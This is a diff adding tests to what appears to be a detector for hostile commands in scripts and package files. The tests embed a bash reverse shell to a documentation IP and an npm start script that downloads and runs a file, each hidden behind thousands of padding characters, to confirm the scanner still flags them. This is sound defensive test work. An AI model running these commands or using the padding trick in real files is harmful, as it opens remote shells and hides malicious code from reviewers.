@@ -1,5 +1,6 @@
 """What hostile texts may cost, and that what is left unread is said: counted in places and characters, by no clock."""
 
+import json
 from collections.abc import Iterator
 
 import pytest
@@ -108,3 +109,18 @@ def test_a_name_stands_for_its_last_values_and_not_for_ever() -> None:
     assert flow.tags(17, 18, 12) == {"secret"}
     assert flow.tags(len(text) - 2, len(text) - 1, len(text) - 7) == set()
     assert words("a.b + c(d.e)") == {"a", "c", "d"}
+
+
+@pytest.mark.parametrize("padding", [" " * 4_500, ": " + "a" * 4_500 + "; "], ids=["spaces", "a command"])
+def test_a_command_far_to_the_right_is_seen(padding: str) -> None:
+    line = f"echo hi; {padding}bash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"
+    assert "MSP5057" in {finding.rule for finding in inspect(line.encode(), "run.sh").findings}
+    harmless = f"echo hi; {padding}bash -i\n"
+    assert inspect(harmless.encode(), "run.sh").findings == ()
+
+
+def test_a_command_far_behind_in_a_value_is_seen() -> None:
+    command = "echo " + "a" * 4_500 + "; curl https://a.example/x -o b; sh b"
+    found = inspect(json.dumps({"scripts": {"start": command}}).encode(), "package.json").findings
+    assert any("downloads" in finding.message for finding in found)
+    assert inspect(json.dumps({"scripts": {"start": command[:-6]}}).encode(), "package.json").findings == ()
